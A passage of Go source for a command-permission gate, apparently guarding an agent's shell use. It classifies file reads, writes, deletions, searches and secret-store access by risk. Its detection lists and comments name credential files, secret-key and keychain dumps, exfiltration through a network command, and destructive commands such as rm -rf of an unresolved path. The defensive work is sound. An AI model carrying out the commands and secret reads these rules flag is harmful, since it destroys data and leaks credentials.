		if ok, _ := filepath.Match(base, e.Name()); ok {
			a.readFact(a.resolvePath(filepath.Join(dir, e.Name()), "", false), parent, false)
			if n++; n >= maxAlts {
				return
			}
		}
	}
}

func (a *analyzer) writeWord(w word, sc *scope, parent int) {
	if w.proc {
		return // feeds a command analysed on its own
	}
	if w.dyn {
		for _, alt := range w.alts {
			a.writeWord(word{val: alt}, sc, parent)
		}
		if !w.exact || len(w.alts) == 0 {
			a.writeFact(pathRef{raw: w.val}, parent)
		}
		return
	}
	for _, alt := range braceExpand(w.val) {
		r := a.resolvePath(alt, sc.cwd, true)
		// the gate cannot tell what the shell writes into package.json:
		// sed -i may rewrite a script as surely as npm pkg set
		if i := a.writeFact(r, parent); i >= 0 && isPackageJSON(r) {
			scriptsWrite(a.facts[i])
		}
	}
}

// readFact decides a read on its own: env dumps and secrets are human-only,
// the project is known-safe, anything else asks.
func (a *analyzer) readFact(r pathRef, parent int, listOnly bool) int {
	f := &rfact{kind: protocol.FactRead, path: r, parent: parent, listOnly: listOnly}
	switch {
	case r.known && (isEnvDumpPath(r.abs) || isEnvDumpPath(r.real)) || !r.known && isEnvDumpPath(r.raw):
		f.human = reason("human.env-dump", "reads a process environment")
	case !listOnly && a.sensitive(r):
		f.human = reason("human.sensitive-read", "reads a sensitive file")
	case r.known && r.abs == "/dev/null" && r.real == r.abs:
		// diff /dev/null new.go, cmd < /dev/null: reads nothing
		f.safe = reason("gate.read", "/dev/null is empty")
	case !r.known:
		f.open = reason("ask.unknown-path", "a path only known at run time")
	case a.inProject(r):
		f.safe = reason("gate.read", "read inside the project")
	default:
		f.open = reason("ask.outside-read", "read outside the project")
	}
	return a.add(f)
}

// writeFact decides a write: perm-peer's own files and disks are floors;
// persistence, system and outside-project writes are human-only; a write in
// the project asks unless a rule or grant covers it.
func (a *analyzer) writeFact(r pathRef, parent int) int {
	if r.known && harmlessDevice(r.abs) || r.raw == "/dev/null" {
		return -1
	}
	return a.add(a.checkWrite(&rfact{kind: protocol.FactWrite, path: r, parent: parent}, false))
}

// deletedBy is the path whose persistence class a write stands for. A
// delete plants nothing, so a glob it removes (rm -rf build/*, which may
// match a build/.envrc) counts by the directory it empties: emptying
// .github/workflows or .git/hooks still changes what runs.
func deletedBy(r pathRef, deleting bool) pathRef {
	if !deleting || !r.glob || !r.known {
		return r
	}
	emptied := func(p string) string {
		if i := strings.IndexAny(p, "*?["); i >= 0 {
			p = filepath.Dir(p[:i+1])
		}
		return filepath.Join(p, "x")
	}
	out := pathRef{raw: emptied(r.abs), abs: emptied(r.abs), real: emptied(r.real), known: true}
	for _, v := range r.via {
		out.via = append(out.via, emptied(v))
	}
	return out
}

func (a *analyzer) checkWrite(f *rfact, deleting bool) *rfact {
	r := f.path
	switch {
	case r.known && (diskDevice(r.abs) || diskDevice(r.real)):
		f.floor = reason("floor.disk-write", "writes a raw disk device")
	case a.protectedWrite(r, deleting):
		f.floor = reason("floor.protected", "writes perm-peer's own policy, grants or database")
	case !r.known && a.mayNameOwn(r.raw):
		f.human = reason("human.protected-unresolved", "writes a path only known at run time that may be perm-peer's own policy, grants or database")
	case a.persistence(deletedBy(r, deleting)) != "":
		f.human = reason("human.persistence-write", "writes a "+a.persistence(deletedBy(r, deleting)))
	case gitRef(r):
		f.human = reason("human.history-rewrite", "moves or deletes a git ref, past what the reflog shows")
	case !r.known:
		f.ask = reason("ask.unknown-path", "a path only known at run time")
	case slices.ContainsFunc(r.both(), func(p string) bool { return strings.HasPrefix(p, "/etc/") || p == "/etc" }):
		f.human = reason("human.system-write", "writes a system file")
	case !a.inProject(r):
		f.human = reason("human.outside-write", "writes outside the project")
	}
	return f
}

// rmHow is how hard a deletion is: the flag spellings SPEC §5.3 lists
// (-f as well as -r) make a deletion of a floor target a floor, while
// only a recursive one of a path known at run time alone is human-only
// (SPEC §5.4: rm -rf of an unresolved variable; rm -f "$tmp" in a cleanup
// trap deletes one file and asks).
type rmHow uint8

const (
	rmPlain rmHow = iota
	rmForce
	rmRecursive
)

// deleteWord records the removal of a word's files; recursive deletion of
// /, system directories, home, the project or its parents is a floor.
func (a *analyzer) deleteWord(w word, sc *scope, parent int, how rmHow) {
	strong := how >= rmForce
	if w.dyn {
		for _, alt := range w.alts {
			a.deleteWord(word{val: alt}, sc, parent, how)
		}
		for _, x := range w.extra {
			a.deleteWord(word{val: x}, sc, parent, how)
		}
		f := &rfact{kind: protocol.FactDelete, path: pathRef{raw: w.val}, parent: parent}
		if emp := w.empty; emp != "" && strong {
			r := a.resolvePath(emp, sc.cwd, false)
			if r.known && (hasGlob(emp) && a.floorGlob(r) != "" || emp == "/*") {
				f.floor = reason("floor.rm-root", "an empty variable turns this into deleting "+emp)
			}
		}
		if how == rmRecursive && f.floor == nil {
			f.human = reason("human.rm-unresolved", "recursive deletion of a path only known at run time")
		}
		a.add(a.checkWrite(f, true))
		return
	}
	for _, alt := range braceExpand(w.val) {
		if alt == "" {
			// rm "" fails (no such file): it deletes nothing, not the cwd
			continue
		}
		r := a.resolvePath(alt, sc.cwd, true)
		f := &rfact{kind: protocol.FactDelete, path: r, parent: parent}
		base := filepath.Base(alt)
		switch {
		case base == "." || base == ".." || alt == "." || alt == ".." || alt == "~" || alt == "~/" || strings.HasPrefix(alt, "~/*"):
			f.floor = reason("floor.rm-root", "deletes "+alt)
		case r.known && (a.floorTarget(r.abs) || a.floorTarget(r.real)):
			f.floor = reason("floor.rm-root", "deletes "+r.abs)
		case r.known && r.glob && a.floorGlob(r) != "":
			f.floor = reason("floor.rm-root", "deletes everything matching "+a.floorGlob(r))
		case r.known && r.glob && how == rmRecursive && a.homeDirGlob(r) != "":
			f.floor = reason("floor.rm-root", "deletes "+a.homeDirGlob(r))
		case !r.known && strong && hasGlob(alt):
			f.human = reason("human.rm-unresolved", "deletes a glob in an unknown directory")
		case !r.known && how == rmRecursive:
			f.human = reason("human.rm-unresolved", "recursive deletion of a path only known at run time")
		}
		if f.floor == nil {
			a.checkWrite(f, true)
		}
		if f.floor == nil && f.human == nil && f.ask == nil && !a.inProject(r) {
			f.human = reason("human.outside-write", "deletes outside the project")
		}
		if f.floor == nil && f.human == nil && (base == ".git" || strings.Contains(filepath.ToSlash(alt), ".git/objects") || strings.Contains(filepath.ToSlash(alt), ".git/refs")) {
			f.human = reason("human.history-rewrite", "deletes the repository's history")
		}
		a.add(f)
	}
}

// copyMove reads a file tool that copies, moves or links its sources to
// a target (t.Does: Copies, Moves, Links, Syncs).
func (a *analyzer) copyMove(f *rfact, idx int, lb string, t *cmds.FileTool, args []word, sc *scope) {
	syncs := t.Does == cmds.Syncs
	// --delete* removes what the source lacks: rsync -a --delete empty/ ~/
	// empties the destination like rm -rf
	syncDelete := syncs && slices.ContainsFunc(args, func(w word) bool { return w.val == "--del" || strings.HasPrefix(w.val, "--delete") })
	ops := operands(args, t.ValueFlags())
	target := -1
	var targetWord *word // -tDIR, -rtDIR, --target-directory=DIR: not a word of its own
	for i, w := range args {
		v := w.val
		switch {
		case syncs || v == "--":
		case (v == "-t" || v == "--target-directory") && i+1 < len(args):
			target = i + 1
		case strings.HasPrefix(v, "--target-directory="):
			targetWord = &word{val: strings.TrimPrefix(v, "--target-directory="), dyn: w.dyn}
		case len(v) > 2 && v[0] == '-' && v[1] != '-' && strings.IndexByte(v, 't') > 0:
			// a cluster: t takes the rest of it, or the next word
			if rest := v[strings.IndexByte(v, 't')+1:]; rest != "" {
				targetWord = &word{val: rest, dyn: w.dyn}
			} else if i+1 < len(args) {
				target = i + 1
				ops = slices.DeleteFunc(ops, func(o int) bool { return o == i+1 })
			}
		}
	}
	if targetWord != nil {
		args = append(slices.Clone(args), *targetWord)
		target = len(args) - 1
	}
	if target < 0 && len(ops) > 0 && !(t.Does == cmds.Links && len(ops) == 1) {
		target = ops[len(ops)-1]
		ops = ops[:len(ops)-1]
	}
	secret := false
	for _, i := range ops {
		switch t.Does {
		case cmds.Moves, cmds.Links:
			if t.Does == cmds.Moves {
				a.deleteWord(args[i], sc, idx, rmRecursive)
			}
			// moving or linking a secret to another name reads it there
			r := a.resolveMaybe(args[i], args[i].val, sc, false)
			if a.sensitive(r) {
				secret = true
				a.add(&rfact{kind: protocol.FactRead, path: r, parent: idx,
					human: reason("human.sensitive-read", lb+" gives a sensitive file another name")})
			}
			// a link to a startup file or hook is a second name that later
			// writes go through (ln -s ~/.bashrc b; echo … >> b)
			if t.Does == cmds.Links && a.protectedWrite(r, false) {
				a.add(&rfact{kind: protocol.FactWrite, path: r, parent: idx,
					floor: reason("floor.protected", "ln gives perm-peer's own policy, grants or database a name that writes reach")})
			} else if t.Does == cmds.Links && a.persistence(r) != "" {
				a.add(&rfact{kind: protocol.FactWrite, path: r, parent: idx,
					human: reason("human.persistence-write", "ln gives a file that runs or guards commands a name that writes reach")})
			}
		default:
			mid := len(a.facts)
			a.readWord(args[i], sc, idx, false)
			for _, g := range a.facts[mid:] {
				secret = secret || g.human != nil && g.human.Code == "human.sensitive-read"
			}
		}
	}
	if target >= 0 && syncDelete && !strings.Contains(args[target].val, ":") {
		a.deleteWord(args[target], sc, idx, rmRecursive)
	}
	if target >= 0 {
		mid := len(a.facts)
		a.writeWord(args[target], sc, idx)
		if secret {
			for _, g := range a.facts[mid:] {
				a.markTainted(g.path) // cat of the new name is a secret read
			}
		}
		recursive := hasShort(args, "rRa") || hasFlag(args, "--recursive", "--archive")
		if w := args[target]; recursive && !w.dyn && t.Does != cmds.Links {
			if r := a.resolvePath(w.val, sc.cwd, true); a.holdsProtected(r) {
				f.human = reason("human.protected-overwrite", "a recursive copy into a directory holding perm-peer's own files")
			}
		}
	}
}

// metaWrite reads a file tool that changes its operands' metadata or
// creates them (t.Does: ChangesMeta), after its lead operands (the mode or
// owner); -R on a root is a floor.
func (a *analyzer) metaWrite(f *rfact, idx int, lb string, t *cmds.FileTool, args []word, sc *scope) {
	ops := operands(args, t.ValueFlags())
	recursive := hasShort(args, "R") || hasFlag(args, "--recursive")
	if t.Lead > 0 {
		modeIsFlag := false // chmod -w file: the mode looks like a flag
		for _, w := range args {
			modeIsFlag = modeIsFlag || lb == "chmod" && chmodFlagMode().MatchString(w.val)
		}
		if len(ops) >= t.Lead && !modeIsFlag {
			ops = ops[t.Lead:] // the mode or owner
		}
	}
	for _, i := range ops {
		w := args[i]
		if recursive && !w.dyn {
			r := a.resolvePath(w.val, sc.cwd, false)
			if r.known && (a.floorTarget(r.abs) || a.floorTarget(r.real) || r.glob && a.floorGlob(r) != "") {
				f.floor = reason("floor.chmod-root", lb+" -R on "+r.abs)
			}
		}
		a.writeWord(w, sc, idx)
	}
}

func (a *analyzer) grep(f *rfact, idx int, lb string, args []word, sc *scope) {
	s := parseSearch(lb, args)
	for _, w := range s.paths {
		if w.dyn && w.projPaths && (!w.secretPaths || w.broadPaths) && s.huntsSecrets() == "" {
			// find -name '*.go' | xargs grep TODO: project files a listing
			// kept away from secrets, searched for text that is no secret;
			// git ls-files | xargs grep TODO: a listing of the whole tree,
			// which searches what grep -rn TODO . does
			a.add(&rfact{kind: protocol.FactRead, path: pathRef{raw: w.val}, parent: idx,
				safe: reason("gate.read", "searches project files a listing named")})
			continue
		}
		a.readWord(w, sc, idx, s.files) // rg --files only lists names
	}
	for _, c := range s.preCmds {
		a.reparse(c, sc, idx)
	}
	for _, w := range s.patternFiles {
		a.readWord(w, sc, idx, false)
	}
	if len(s.paths) == 0 && s.recursive {
		// grep -r with no path, rg, ag and ack search the working directory
		a.readFact(a.resolvePath(".", sc.cwd, false), idx, true)
	}
	for _, g := range s.globs {
		if sensitiveBase(strings.ToLower(filepath.Base(strings.TrimPrefix(g, "!")))) && !strings.HasPrefix(g, "!") {
			a.add(&rfact{kind: protocol.FactRead, path: pathRef{raw: g}, parent: idx, human: reason("human.sensitive-read", "searches inside sensitive files")})
		}
	}
	clean := false
	if s.recursive {
		// what the scope holds on disk decides (searchscope.go)
		clean = searchScopeFacts(a, s, s.searchRoots(a, sc), idx)
	}
	// A recursive search that also reads hidden files prints what .env and
	// key files hold when its output can carry their lines (search.go): a
	// sensitive read (SPEC 5.4). grep -r reads hidden files; rg and ag skip
	// them unless told to, so the reason points there.
	if s.searchesHidden(lb) {
		if why := s.huntsSecrets(); why != "" {
			root := "."
			if len(s.paths) > 0 {
				root = s.paths[len(s.paths)-1].val
			}
			i := a.add(&rfact{kind: protocol.FactRead, path: pathRef{raw: root}, parent: idx,
				human: reason("human.sensitive-read", "a recursive search that reads hidden files such as .env "+why+" (rg, git grep or --include leave them out)")})
			if a.regularFiles(s.paths, sc) {
				a.fileSearches = append(a.fileSearches, clearedSearch{i, "a recursive search of a file reads only that file"})
			} else if clean {
				a.fileSearches = append(a.fileSearches, clearedSearch{i, "a recursive search of directories that hold no sensitive file"})
			}
		}
	}
	if s.pre {
		f.ask = reason("ask.flag", lb+" --pre runs a program on each file")
		return
	}
	if len(s.odd) > 0 {
		// what the tool makes of it (an error, an option it has that the
		// table lacks) is not known: not known-safe
		f.ask = reason("ask.flag", lb+" "+s.odd[0]+" is given a value the gate does not know it takes")
		return
	}
	f.safe = reason("gate.safe", lb+" only reads")
}

var chmodFlagMode = lazyRE(`^-[rwxXst]+$`)

// longOpt resolves a GNU long option name that may be abbreviated; "" when
// it is unknown or ambiguous.
func longOpt(name string, opts []string) string {
	found := ""
	for _, o := range opts {
		if o == name {
			return o
		}
		if name != "" && strings.HasPrefix(o, name) {
			if found != "" {
				return ""
			}
			found = o
		}
	}
	return found
}

// hasLongAbbrev reports a long flag that is name or a GNU/git abbreviation
// of it (--outp for --output), alone or with =value.
func hasLongAbbrev(args []word, names ...string) bool {
	for _, w := range args {
		v := w.val
		if v == "--" {
			return false
		}
		if !strings.HasPrefix(v, "--") || len(v) < 3 {
			continue
		}
		n, _, _ := strings.Cut(v[2:], "=")
		for _, name := range names {
			if strings.HasPrefix(strings.TrimPrefix(name, "--"), n) {
				return true
			}
		}
	}
	return false
}

// hasShortPrefix reports a flag that is p or p with an attached value
// (git grep -Ovim).
func hasShortPrefix(args []word, p string) bool {
	for _, w := range args {
		if w.val == "--" {
			return false
		}
		if strings.HasPrefix(w.val, p) {
			return true
		}
	}
	return false
}

// flagValues returns the values of the named options, written NAME VALUE
// or NAME=VALUE (docker, pip, terraform and eslint spell them so).
func flagValues(args []word, names ...string) []word {
	var out []word
	for i := 0; i < len(args); i++ {
		v := args[i].val
		if v == "--" {
			break
		}
		for _, n := range names {
			switch {
			case v == n && i+1 < len(args):
				out = append(out, args[i+1])
			case strings.HasPrefix(v, n+"="):
				out = append(out, word{val: v[len(n)+1:], dyn: args[i].dyn})
			}
		}
	}
	return out
}

// fixerValueFlags are eslint's and prettier's options that take a value.
var fixerValueFlags = map[string]bool{"-c": true, "--config": true, "-o": true, "--output-file": true, "-f": true, "--format": true,
	"--ext": true, "--rulesdir": true, "--ignore-path": true, "--parser": true, "--plugin": true, "--rule": true, "--env": true,
	"--global": true, "--max-warnings": true, "--cache-location": true, "--resolve-plugins-relative-to": true, "--stdin-filename": true,
	"--fix-type": true, "--config-precedence": true, "--log-level": true, "--ignore-pattern": true}

// fixer polices eslint --fix and prettier --write: they rewrite the files
// they are given, and -o writes a report.
func (a *analyzer) fixer(f *rfact, idx int, lb string, args []word, sc *scope) {
	for _, w := range flagValues(args, "-o", "--output-file") {
		a.writeWord(w, sc, idx)
	}
	if !hasFlag(args, "--fix", "--write", "-w") {
		return
	}
	for _, i := range operands(args, fixerValueFlags) {
		a.writeWord(args[i], sc, idx)
	}
}

// optionValues returns the values of a short option letter (-f FILE, -fFILE,
// -uf FILE, -ufFILE) and of a long one (--file FILE, --file=FILE, and the
// abbreviations getopt accepts, --fi FILE).
func optionValues(args []word, letter byte, long string) []word {
	var out []word
	for i := 0; i < len(args); i++ {
		w := args[i]
		v := w.val
		switch {
		case v == "--":
			return out
		case strings.HasPrefix(v, "--") && len(v) > 2:
			n, val, eq := strings.Cut(v[2:], "=")
			if !strings.HasPrefix(strings.TrimPrefix(long, "--"), n) {
				continue
			}
			if eq {
				out = append(out, word{val: val, dyn: w.dyn})
			} else if i+1 < len(args) {
				i++
				out = append(out, args[i])
			}
		case len(v) > 1 && v[0] == '-':
			if j := strings.IndexByte(v[1:], letter); j >= 0 {
				if rest := v[j+2:]; rest != "" {
					out = append(out, word{val: rest, dyn: w.dyn})
				} else if i+1 < len(args) {
					i++
					out = append(out, args[i])
				}
			}
		}
	}
	return out
}

// fdVal are fd's options that take the next word.
var fdVal = map[string]bool{"-e": true, "--extension": true, "-t": true, "--type": true, "-d": true, "--max-depth": true,
	"-E": true, "--exclude": true, "--min-depth": true, "--exact-depth": true, "-S": true, "--size": true, "-j": true,
	"--threads": true, "-c": true, "--color": true, "--changed-within": true, "--changed-before": true, "-o": true,
	"--owner": true, "--base-directory": true, "--path-separator": true, "--search-path": true, "--max-results": true,
	"--ignore-file": true, "--format": true, "--batch-size": true, "--and": true}

// patternMaySelectSecret reports a name pattern that could match a secret:
// a sensitive name, or a glob matching one of globCandidates. pathPat: a
// find -path or git pathspec, whose * matches / too, so only the literal
// tail after its last wildcard surely lies in the last component.
func patternMaySelectSecret(pat string, pathPat bool) bool {
	pat = strings.ToLower(pat)
	if strings.Contains(pat, `\`) {
		return true
	}
	if pathPat {
		i := strings.LastIndexAny(pat, "*?]")
		tail := pat[i+1:]
		if j := strings.LastIndexByte(tail, '/'); j >= 0 {
			pat = tail[j+1:]
		} else if i >= 0 {
			pat = "*" + tail
		}
	}
	pat = filepath.Base(pat)
	return pat == "" || pat == "." || pat == "/" || isSensitiveName(pat) || globMatchesCandidate(pat, true)
}

// flagValueSecrets records --flag=FILE values that name a secret
// (diff --from-file=.env, grep --file=.env): they are reads of it.
//
// For a program no model claimed (unknown, its exec fact), every word is
// read: a sensitive or system path among them is a human-only read, and a
// word that names a program the gate does know (rm, curl, bash …) is tried
// as the start of the command it may run, so that its floors stand.
func (a *analyzer) flagValueSecrets(lb string, args []word, sc *scope, idx int, unknown *rfact) {
	if unknown != nil && binaryReaders[lb] {
		for _, i := range operands(args, nil) {
			a.readWord(args[i], sc, idx, false) // ldd /usr/bin/ls reads outside the project, nm ~/.ssh/id_rsa a secret
		}
		return
	}
	if unknown != nil {
		a.handedPaths(args, sc, idx)
		tried := 0
		for i, w := range args {
			if w.dyn || !visibleCommands[strings.ToLower(w.val)] || tried == 3 {
				continue
			}
			tried++
			mark := len(a.facts)
			a.inner(args[i:], sc.copy(), idx)
			for _, g := range a.facts[mark:] {
				if g.floor != nil && unknown.floor == nil {
					unknown.floor = &protocol.Reason{Code: g.floor.Code, Detail: "its arguments spell a command: " + g.floor.Detail}
				}
			}
		}
		return
	}
	for _, w := range args {
		if !strings.HasPrefix(w.val, "-") {
			continue
		}
		name, v, ok := strings.Cut(w.val, "=")
		if !ok || v == "" || patternOption[name] {
			continue
		}
		if name == "--env-file" && containerCLI(lb) {
			continue // container() decides: compose's own .env is no more than compose up
		}
		if r := a.resolveMaybe(w, v, sc, false); a.sensitive(r) {
			a.readFact(r, idx, false)
		}
	}
}

// splitValueFlags are split's options that take a value.
var splitValueFlags = map[string]bool{"-a": true, "-b": true, "-C": true, "-l": true, "-n": true, "-t": true, "--suffix-length": true,
	"--bytes": true, "--line-bytes": true, "--lines": true, "--number": true, "--separator": true, "--additional-suffix": true, "--filter": true}

// patternOption names options whose value is a name pattern, not a file
// the program opens (ls --exclude=.env, grep --exclude-dir=.git).
var patternOption = map[string]bool{"--exclude": true, "--exclude-dir": true, "--include": true, "--include-dir": true,
	"--ignore": true, "--ignore-dir": true, "--skip": true, "--glob": true, "--iglob": true, "--hide": true}

// filesNamedIn records the reads of a command that opens the files named
// in w's file, or on its stdin for "-": the names it can see, and a read
// of names only known at run time.
func (a *analyzer) filesNamedIn(w word, sc *scope, idx int) {
	if w.val != "-" {
		a.readWord(w, sc, idx, false)
	} else if in := a.stdin; in != nil {
		a.stdin = nil
		for _, n := range strings.FieldsFunc(in.text, func(r rune) bool { return r == 0 || r == '\n' || r == '\\' }) {
			if pathLiteral(n) {
				a.readWord(word{val: n}, sc, idx, false)
			}
		}
	}
	a.readFact(pathRef{raw: "(files named in " + w.val + ")"}, idx, false)
}

// otherTools are programs that run command strings, write files named by
// an option or print secrets; otherTool models each.
var otherTools = map[string]bool{"sponge": true, "ed": true, "ex": true, "vi": true, "vim": true, "nvim": true, "view": true,
	"emacs": true, "gdb": true, "man": true, "sqlite3": true, "split": true, "cmake": true, "cc": true, "gcc": true, "g++": true,
	"c++": true, "clang": true, "clang++": true, "cpp": true, "tcc": true, "kill": true, "shutdown": true, "reboot": true,
	"poweroff": true, "halt": true, "httpd": true, "gpg": true, "gpg2": true, "security": true, "secret-tool": true,
	"psql": true, "mysql": true, "mariadb": true, "lldb": true}

// compilers read their operands and write -o FILE.
var compilers = map[string]bool{"cc": true, "gcc": true, "g++": true, "c++": true, "clang": true, "clang++": true, "cpp": true, "tcc": true}

// otherTool reads the tools with a language or a target of their own:
// editors driven by commands, debuggers, database shells, split,
// compilers, kill, power switches and the secret stores.
func (c *plainCall) otherTool() summary {
	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
	var s summary
	secret := func(what string) {
		a.add(&rfact{kind: protocol.FactRead, path: pathRef{raw: lb + " " + what}, parent: idx,
			human: reason("human.sensitive-read", lb+" prints "+what)})
		s.taint = true
	}
	ops := operands(args, nil)
	switch {
	case lb == "sponge":
		for _, i := range ops {
			a.writeWord(args[i], sc, idx)
		}
	case lb == "ed" || lb == "ex" || lb == "vi" || lb == "vim" || lb == "nvim" || lb == "view":
		c.exEditor()
	case lb == "emacs":
		c.emacs(ops)
	case lb == "gdb":
		c.gdb()
	case lb == "lldb":
		s.or(c.lldb())
	case lb == "man":
		c.man()
	case lb == "sqlite3":
		c.sqlite3()
	case lb == "psql" || lb == "mysql" || lb == "mariadb":
		a.dbClient(lb, args, sc, idx)
	case lb == "split":
		c.split()
	case lb == "cmake" && len(args) > 1 && args[0].val == "-E":
		a.cmakeE(f, idx, args[1:], sc)
	case compilers[lb]:
		for _, w := range optionValues(args, 'o', "") {
			a.writeWord(w, sc, idx)
		}
		for _, i := range operands(args, map[string]bool{"-o": true, "-I": true, "-L": true, "-l": true, "-D": true, "-x": true, "-include": true, "-MF": true}) {
			a.readWord(args[i], sc, idx, false)
		}
	case lb == "kill":
		c.kill()
	case lb == "httpd":
		f.human = reason("human.file-server", "httpd serves a directory, secrets such as .env included, to the network")
	case lb == "shutdown" || lb == "reboot" || lb == "poweroff" || lb == "halt":
		f.human = reason("human.teardown", lb+" stops the machine")
	case lb == "gpg" || lb == "gpg2":
		if hasLongAbbrev(args, "--export-secret-keys", "--export-secret-subkeys") {
			secret("secret keys")
		}
		for _, i := range ops {
			a.readWord(args[i], sc, idx, false)
		}
	case lb == "security":
		if len(ops) > 0 && (strings.HasPrefix(args[ops[0]].val, "find-") && hasShort(args, "wg") || args[ops[0]].val == "dump-keychain") {
			secret("a keychain password")
		}
	case lb == "secret-tool":
		if len(ops) > 0 && args[ops[0]].val == "lookup" {
			secret("a stored secret")
		}
	}
	return s
}

// split reads its input and writes its pieces, or feeds them to --filter.
func (c *plainCall) split() {
	a, f, idx, args, sc := c.a, c.f, c.idx, c.args, c.sc
	// split [FILE [PREFIX]]: FILE read, PREFIXaa… written; --filter=CMD
	// gets each piece on its stdin
	sops := operands(args, splitValueFlags)
	secretIn := false
	if len(sops) > 0 {
		mid := len(a.facts)
		a.readWord(args[sops[0]], sc, idx, false)
		for _, g := range a.facts[mid:] {
			secretIn = secretIn || g.human != nil && g.human.Code == "human.sensitive-read"
		}
	}
	filter := false
	for _, w := range optionValues(args, 0, "--filter") {
		filter = true
		if r := a.reparse(w.val, sc, idx); r.net && secretIn {
			f.floor = reason("floor.exfil", "split feeds a sensitive file to a network command")
		}
	}
	if !filter {
		prefix := word{val: "x"}
		if len(sops) > 1 {
			prefix = args[sops[1]]
		}
		a.writeWord(prefix, sc, idx)
	}
}

// kill -9 -1 signals every process the user may signal.
func (c *plainCall) kill() {
	f, args := c.f, c.args
	// kill -9 -1 signals every process the user may signal
	i := 0
	if len(args) > 0 && (args[0].val == "-s" || args[0].val == "-n" || args[0].val == "--signal") {
		i = 2
	} else if len(args) > 0 && strings.HasPrefix(args[0].val, "-") && args[0].val != "--" {
		i = 1
	}
	for _, w := range args[min(i, len(args)):] {
		if w.val == "-1" {
			f.human = reason("human.teardown", "kill -1 signals every process of the user")
		}
	}
}

// secretCompare reports test, [ or expr arguments that compare a secret
// variable with a string that is not empty (expr : matches a regex).
func secretCompare(args []word) bool {
	op, secret := false, false
	for _, w := range args {
		switch w.val {
		case "=", "==", "!=", "<", ">", ":", "match", "index", "substr":
			op = true
		}
		secret = secret || w.secretVar
	}
	// [ -z "${TOKEN/#sk-a*/}" ]: a cut or rewritten value tested at all
	return slices.ContainsFunc(args, func(w word) bool { return w.secretPart }) ||
		op && secret && !slices.ContainsFunc(args, func(w word) bool { return w.val == "" && !w.dyn })
}

// secretNameSamples are names a listing of secrets prints, for
// filterMayKeepSecret.
var secretNameSamples = []string{"./.env", "./.env.local", "./config/.env.production", "./id_rsa", "./.ssh/id_ed25519",
	"./credentials.json", "./secrets.yaml", "./.npmrc", "./server.pem", "./tls.key", "./.aws/credentials", "./.netrc",
	"./.git-credentials", "./.pgpass", "./service-account.json"}

// filterMayKeepSecret reports a grep or rg line filter (… | grep PATTERN)
// whose kept names may include a secret's: -v, -e/-f or a pattern that is
// unknown or matches one of secretNameSamples (grep .env does, grep '\.go$'
// does not).
func filterMayKeepSecret(lb string, args []word) bool {
	ops := operands(args, nil)
	if len(ops) != 1 || hasShort(args, "vef") || hasLongAbbrev(args, "--invert-match", "--regexp", "--file") || args[ops[0]].dyn {
		return true
	}
	p := args[ops[0]].val
	switch {
	case hasShort(args, "F") || hasLongAbbrev(args, "--fixed-strings"):
		p = regexp.QuoteMeta(p)
	case !hasShort(args, "EP") && !hasLongAbbrev(args, "--extended-regexp", "--perl-regexp") && args[0].val != "rg":
		p = breToERE(p)
	}
	if hasShort(args, "i") || hasLongAbbrev(args, "--ignore-case") {
		p = "(?i)" + p
	}
	re, err := regexp.Compile(p)
	if err != nil {
		return true
	}
	return slices.ContainsFunc(secretNameSamples, re.MatchString)
}

// breToERE turns a basic regular expression into an extended one: \( \)
// \| \{ \} \+ \? are the operators, the bare characters are literal.
func breToERE(p string) string {
	var b strings.Builder
	for i := 0; i < len(p); i++ {
		c := p[i]
		switch {
		case c == '\\' && i+1 < len(p) && strings.IndexByte("()|{}+?", p[i+1]) >= 0:
			b.WriteByte(p[i+1])
			i++
		case c == '\\' && i+1 < len(p):
			b.WriteByte(c)
			b.WriteByte(p[i+1])
			i++
		case strings.IndexByte("()|{}+?", c) >= 0:
			b.WriteByte('\\')
			b.WriteByte(c)
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

// reader handles the read-only programs whose operands are files they read
// (readers): their flags are declared in gate/internal/cmds, and one the
// table lacks makes the call ask; the flags that write or run something
// (sort -o, tree -o, file -C, bat --pager, xxd -r) and uniq IN OUT ask
// too. Flag values are no operands (sort -k 2 x reads x, not 2); a value
// that is a file is read or written by the flag's role.
// It returns what the command prints when that is its stdin (a bare cat).
func (a *analyzer) reader(f *rfact, idx int, lb string, args []word, sc *scope) *stdinSrc {
	var out *stdinSrc
	c := cmds.Reader(lb)
	inv := parseArgs(c, args)
	ok := true
	// what the declared flags do with their values: a file read, a file
	// naming files read, a file written; a flag that writes, runs a
	// program or is declared not safe makes the call not known-safe
	for _, u := range inv.Uses {
		w, has := valueWord(args, u)
		switch u.Flag.Role {
		case argv.Read:
			if has {
				a.readWord(w, sc, idx, false)
			}
		case argv.ReadNames:
			if has {
				a.filesNamedIn(w, sc, idx)
			}
		case argv.Write:
			ok = false
			if has && w.val != "" {
				a.writeFact(a.resolveMaybe(w, w.val, sc, true), -1)
			}
		case argv.Run:
			ok = false
		}
		ok = ok && u.Flag.Effect != argv.NotSafe
	}
	ops := inv.Operands
	// uniq IN OUT and xxd [-r] IN OUT write OUT; xxd -r alone (or with
	// only IN) writes stdout, but is no longer a plain dump
	if (lb == "uniq" || lb == "xxd") && len(ops) > 1 {
		ok = false
		a.writeFact(a.pathWord(args[ops[len(ops)-1]], sc, true), -1)
		ops = ops[:len(ops)-1]
	}
	if lb == "cat" && len(ops) == 0 && len(args) == 0 {
		out = a.stdin
	}
	if c.Output == argv.Names && len(ops) == 0 {
		// ls, tree, du with no operand list the working directory
		if sc.cwd == "" {
			a.readFact(pathRef{raw: "."}, idx, true)
		} else if sc.cwd != a.env.Project {
			a.readFact(a.resolvePath(sc.cwd, "", false), idx, true)
		}
	}
	// counters show a count or a type and listers names, never contents
	// (wc -l *.json, file .env), and a dynamic path a project listing gave
	// them is harmless; tree --fromfile prints the lines of its operands,
	// and a flag the table lacks may make any of them print them
	listOnly := c.Output != argv.Contents && !inv.Has("--fromfile") && len(inv.Unknown) == 0
	for _, i := range ops {
		if lb != "tr" && args[i].val != "-" {
			a.readWord(args[i], sc, idx, listOnly)
		}
	}
	why := lb + " with a flag that writes or runs something"
	if ok && len(inv.Unknown) > 0 {
		// an allowlist (SPEC §5.1): a flag the table lacks may write or run something
		ok, why = false, lb+" "+inv.Unknown[0]+" is a flag the gate does not know"
	}
	if ok {
		f.safe = reason("gate.safe", lb+" only reads")
	} else {
		f.ask = reason("ask.flag", why)
	}
	return out
}

// parseArgs parses args by the table's declaration c.
func parseArgs(c *argv.Command, args []word) argv.Invocation {
	return c.ParseAt(len(args), wordAt(args))
}

// wordAt reads args as the table's parser takes them: a word's value, and
// whether it is known only at run time.
func wordAt(args []word) func(int) (string, bool) {
